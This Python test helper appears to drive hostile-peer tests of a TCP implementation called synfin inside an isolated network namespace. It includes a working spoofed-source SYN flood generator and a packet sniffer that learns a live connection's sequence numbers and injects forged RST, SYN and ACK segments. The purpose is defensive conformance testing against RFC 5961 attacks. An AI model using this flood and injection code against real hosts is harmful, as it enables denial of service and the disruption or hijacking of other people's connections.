#!/usr/bin/env python3
"""Hostile peers for test/reliability/hostile.test.ts, run inside the app's network namespace
(`ip netns exec NS python3 attack.py MODE ...`). Raw IPv4 packets through a raw socket and
capture through an AF_PACKET socket: the standard library only, no scapy. Each mode prints JSON
lines on stdout.

  flood IFACE DST DPORT SECONDS WINDOW
      SYNs through IFACE (synfin's TUN device) as fast as synfin answers them, at most WINDOW
      unanswered at a time, each from a random spoofed source in 10.0.0.0/8 (addresses nobody in
      the namespace owns: the SYN-ACKs go nowhere); at the end {"sent", "answered", "dropped"
      (by the device's full queue), "errors", "seconds"}.

  client HOST PORT
      A kernel TCP client driven by commands on stdin: "echo N" sends N random bytes and reads
      N bytes back, {"echo": N, "match": bool}; "close" half-closes, reads to the end and closes,
      {"closed": true}. {"ready": true, "localPort"} once connected; {"error"} on failure.

  inject IFACE CLIENT CPORT SERVER SPORT
      An attacker that knows the connection's 4-tuple and sees its packets on IFACE (the TUN
      device in the namespace). {"sniffing": true} once capturing. Commands on stdin:
        learn       wait until the flow is quiet, then report the sequence state both ways
                    {"rcvNxt", "sndNxt", "window", "tsval", "tsecr"} (synfin's RCV.NXT is what it
                    last acknowledged; its SND.NXT the end of what it last sent)
        send KIND   inject one segment as if from the client, wait 600 ms and report what
                    synfin sent to the client meanwhile: {"kind", "seq", "ack", "replies": [...]}
          rst-in      RST inside the receive window but not at RCV.NXT (RFC 5961 §3.2)
          rst-out     RST outside the receive window
          syn         SYN inside the window of an established connection (RFC 5961 §4.2)
          ack-unsent  ACK of data never sent: SEG.ACK > SND.NXT (RFC 5961 §5.2, RFC 9293 §3.10.7.4)
"""
import json
import os
import random
import select
import socket
import struct
import sys
import threading
import time

from rawpkt import checksum, fold, out

ETH_P_ALL = 0x0003
PACKET_OUTGOING = 4
FIN, SYN, RST, PSH, ACK = 0x01, 0x02, 0x04, 0x08, 0x10
# IP identification of injected packets, so the capture can tell them from the client kernel's.
INJECT_ID = 0xBEEF


def tcp_packet(src, dst, sport, dport, seq, ack, flags, window, options=b"", ident=INJECT_ID):
    """An IPv4 datagram carrying one TCP segment without payload, checksums filled in."""
    off = (20 + len(options)) // 4
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq & 0xFFFFFFFF, ack & 0xFFFFFFFF, off << 4, flags, window, 0, 0) + options
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), ident, 0x4000, 64, socket.IPPROTO_TCP, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ip + tcp


def raw_sender():
    # IPPROTO_RAW implies IP_HDRINCL: we write the IP header, source address included (spoofing).
    return socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)


# ------------------------------------------------------------------------------------- flood

class DeviceCounter:
    """A counter of a network device in this namespace (/sys/class/net/DEV/statistics/NAME)."""

    def __init__(self, dev, name):
        self.fd = os.open("/sys/class/net/%s/statistics/%s" % (dev, name), os.O_RDONLY)

    def read(self):
        # sysfs regenerates the value on every read from offset 0.
        return int(os.pread(self.fd, 32, 0))


def flood(iface, dst, dport, seconds, window):
    # Precompute the SYNs (random source address, port and ISN each), then only write them. The
    # TCP checksum is patched incrementally from a template summed with zero source, port and
    # sequence number.
    dst_b = socket.inet_aton(dst)
    opts = struct.pack("!BBH", 2, 4, 1460)  # MSS
    tmpl_tcp = struct.pack("!HHIIBBHHH", 0, dport, 0, 0, 6 << 4, SYN, 64240, 0, 0) + opts
    base = sum(struct.unpack("!%dH" % (len(tmpl_tcp) // 2), tmpl_tcp))
    base += sum(struct.unpack("!2H", dst_b)) + socket.IPPROTO_TCP + len(tmpl_tcp)
    rnd = random.Random(os.getpid())
    pkts = []
    for i in range(1 << 16):
        src_n = (10 << 24) | rnd.getrandbits(24)
        sport = 1024 + rnd.getrandbits(15)
        seq = rnd.getrandbits(32)
        c = ~fold(base + (src_n >> 16) + (src_n & 0xFFFF) + sport + (seq >> 16) + (seq & 0xFFFF)) & 0xFFFF
        tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 6 << 4, SYN, 64240, c, 0) + opts
        # The kernel fills in the IP header checksum (and total length) of IP_HDRINCL packets.
        ip = struct.pack("!BBHHHBBH4sI", 0x45, 0, 20 + len(tcp), i, 0, 64, socket.IPPROTO_TCP, 0, dst_b, 0)
        pkts.append(ip[:12] + struct.pack("!I", src_n) + dst_b + tcp)
    s = raw_sender()
    s.connect((dst, 0))
    # The device's own counters: tx = packets synfin has read, rx = packets synfin wrote back (a
    # SYN-ACK per SYN), tx_dropped = packets lost because the queue toward synfin was full.
    into, back, dropped = (DeviceCounter(iface, n) for n in ("tx_packets", "rx_packets", "tx_dropped"))
    into0, back0, dropped0 = into.read(), back.read(), dropped.read()
    out({"ready": True})
    sent = errors = waits = 0
    n = len(pkts)
    send = s.send
    start = time.monotonic()
    deadline = start + seconds
    while time.monotonic() < deadline:
        # At most `window` SYNs queued unread: as fast as synfin reads, never overflowing the
        # device's queue (that would drop everybody's packets in the kernel, the real client's
        # too, and measure the queue rather than synfin).
        if sent - (into.read() - into0) - (dropped.read() - dropped0) >= window:
            waits += 1
            time.sleep(0.0002)
            continue
        for _ in range(32):
            try:
                send(pkts[sent % n])
                sent += 1
            except OSError:
                errors += 1
    out({"sent": sent, "errors": errors, "waits": waits, "dropped": dropped.read() - dropped0,
         "answered": back.read() - back0, "seconds": round(time.monotonic() - start, 3)})


# ------------------------------------------------------------------------------------ client

def client(host, port):
    try:
        s = socket.create_connection((host, port), timeout=10)
    except OSError as e:
        out({"error": errno_name(e)})
        return
    s.settimeout(15)
    out({"ready": True, "localPort": s.getsockname()[1]})
    for line in sys.stdin:
        cmd = line.split()
        try:
            if cmd and cmd[0] == "echo":
                n = int(cmd[1])
                data = os.urandom(n)
                t = threading.Thread(target=s.sendall, args=(data,), daemon=True)
                t.start()
                got = bytearray()
                while len(got) < n:
                    chunk = s.recv(min(65536, n - len(got)))
                    if not chunk:
                        break
                    got += chunk
                t.join()
                out({"echo": len(got), "match": bytes(got) == data})
            elif cmd and cmd[0] == "close":
                s.shutdown(socket.SHUT_WR)
                while s.recv(65536):
                    pass
                s.close()
                out({"closed": True})
                return
        except OSError as e:
            out({"error": errno_name(e)})
            return


def errno_name(e):
    import errno
    if isinstance(e, socket.timeout):
        return "TIMEOUT"
    return errno.errorcode.get(e.errno, str(e)) if e.errno else str(e)


# ------------------------------------------------------------------------------------ inject

def seq_gt(a, b):
    """a after b in sequence space (RFC 9293 §3.4: arithmetic modulo 2**32)."""
    d = (a - b) & 0xFFFFFFFF
    return 0 < d < 0x80000000


class Flow:
    """What the capture saw of one connection, both ways."""

    def __init__(self, client, cport, server, sport):
        self.c = (socket.inet_aton(client), cport)
        self.s = (socket.inet_aton(server), sport)
        self.lock = threading.Lock()
        self.segments = []  # (time, direction, fields) with direction "c2s" or "s2c"
        self.last_at = 0.0

    def parse(self, pkt):
        if len(pkt) < 40 or pkt[0] >> 4 != 4 or pkt[9] != socket.IPPROTO_TCP:
            return None
        ihl = (pkt[0] & 0x0F) * 4
        total = struct.unpack("!H", pkt[2:4])[0]
        ident = struct.unpack("!H", pkt[4:6])[0]
        src, dst = pkt[12:16], pkt[16:20]
        t = pkt[ihl:]
        sport, dport, seq, ack, off, flags, win = struct.unpack("!HHIIBBH", t[:16])
        hlen = (off >> 4) * 4
        # A GSO packet from the kernel may carry a total length of 0 or larger than one MTU.
        payload = (total if total >= ihl + hlen else len(pkt)) - ihl - hlen
        if (src, sport) == self.c and (dst, dport) == self.s:
            direction = "c2s"
        elif (src, sport) == self.s and (dst, dport) == self.c:
            direction = "s2c"
        else:
            return None
        tsval = tsecr = None
        opts = t[20:hlen]
        i = 0
        while i < len(opts):
            kind = opts[i]
            if kind == 0:
                break
            if kind == 1:
                i += 1
                continue
            if i + 1 >= len(opts):
                break
            length = opts[i + 1]
            if kind == 8 and length == 10:
                tsval, tsecr = struct.unpack("!II", opts[i + 2:i + 10])
            i += max(length, 2)
        return direction, {"flags": flags, "seq": seq, "ack": ack, "len": payload, "win": win,
                           "tsval": tsval, "tsecr": tsecr, "injected": ident == INJECT_ID}

    def record(self, pkt):
        r = self.parse(pkt)
        if r is None:
            return
        now = time.monotonic()
        with self.lock:
            self.segments.append((now, r[0], r[1]))
            self.last_at = now

    def since(self, t0):
        with self.lock:
            return [(d, f) for (t, d, f) in self.segments if t >= t0]


def inject(iface, client_addr, cport, server_addr, sport):
    flow = Flow(client_addr, cport, server_addr, sport)
    cap = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_ALL))
    cap.bind((iface, ETH_P_ALL))
    cap.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)

    def capture():
        while True:
            r, _, _ = select.select([cap], [], [], 0.5)
            if r:
                pkt = cap.recv(65536)
                flow.record(pkt)

    threading.Thread(target=capture, daemon=True).start()
    raw = raw_sender()
    state = None
    out({"sniffing": True})
    for line in sys.stdin:
        cmd = line.split()
        if not cmd:
            continue
        if cmd[0] == "learn":
            state = learn(flow)
            out(state)
        elif cmd[0] == "send" and state is not None and "error" not in state:
            out(send(flow, raw, state, cmd[1], client_addr, cport, server_addr, sport))
        else:
            out({"error": "bad command %r" % line.strip()})


def learn(flow):
    # Quiet for 300 ms: delayed ACKs have gone out, both sides acknowledged everything.
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline:
        if flow.last_at and time.monotonic() - flow.last_at > 0.3:
            break
        time.sleep(0.05)
    segs = [(d, f) for (d, f) in flow.since(0) if not f["injected"]]
    c2s = [f for d, f in segs if d == "c2s"]
    s2c = [f for d, f in segs if d == "s2c"]
    if not c2s or not s2c:
        return {"error": "flow not seen both ways", "c2s": len(c2s), "s2c": len(s2c)}
    snd_nxt = None
    for f in s2c:
        end = (f["seq"] + f["len"] + (1 if f["flags"] & (SYN | FIN) else 0)) & 0xFFFFFFFF
        if snd_nxt is None or seq_gt(end, snd_nxt):
            snd_nxt = end
    last_s, last_c = s2c[-1], c2s[-1]
    return {"rcvNxt": last_s["ack"], "sndNxt": snd_nxt, "window": last_s["win"],
            "tsval": last_c["tsval"], "tsecr": last_s["tsval"],
            "clientAck": last_c["ack"], "c2s": len(c2s), "s2c": len(s2c)}


def ts_option(state):
    if state["tsval"] is None:
        return b""
    # NOP, NOP, Timestamps: the client's latest TSval (so PAWS, RFC 7323 §5, lets it through).
    return struct.pack("!BBBBII", 1, 1, 8, 10, state["tsval"], state["tsecr"] or 0)


def send(flow, raw, state, kind, client_addr, cport, server_addr, sport):
    rcv_nxt, snd_nxt = state["rcvNxt"], state["sndNxt"]
    # Inside the window but not at its left edge: the window field is at least this large even
    # unscaled (the test checks), so the offset is in the window whatever the scale.
    in_window = rcv_nxt + 1000
    if kind == "rst-in":
        seq, ack, flags, opts = in_window, 0, RST, b""
    elif kind == "rst-out":
        seq, ack, flags, opts = rcv_nxt + (1 << 30), 0, RST, b""
    elif kind == "syn":
        seq, ack, flags, opts = in_window, 0, SYN, ts_option(state)
    elif kind == "ack-unsent":
        seq, ack, flags, opts = rcv_nxt, snd_nxt + 100000, ACK, ts_option(state)
    else:
        return {"error": "unknown kind %s" % kind}
    pkt = tcp_packet(client_addr, server_addr, cport, sport, seq, ack, flags, 1024, opts)
    t0 = time.monotonic()
    raw.sendto(pkt, (server_addr, 0))
    time.sleep(0.6)
    replies = [f for d, f in flow.since(t0) if d == "s2c"]
    client_sent = [f for d, f in flow.since(t0) if d == "c2s" and not f["injected"]]
    injected_seen = [f for d, f in flow.since(t0) if d == "c2s" and f["injected"]]
    return {"kind": kind, "seq": seq & 0xFFFFFFFF, "ack": ack & 0xFFFFFFFF, "replies": replies,
            "clientSent": client_sent, "injectedSeen": len(injected_seen)}


def main():
    mode, args = sys.argv[1], sys.argv[2:]
    if mode == "flood":
        flood(args[0], args[1], int(args[2]), float(args[3]), int(args[4]))
    elif mode == "client":
        client(args[0], int(args[1]))
    elif mode == "inject":
        inject(args[0], args[1], int(args[2]), args[3], int(args[4]))
    else:
        sys.stderr.write("unknown mode %s\n" % mode)
        sys.exit(2)


if __name__ == "__main__":
    main()
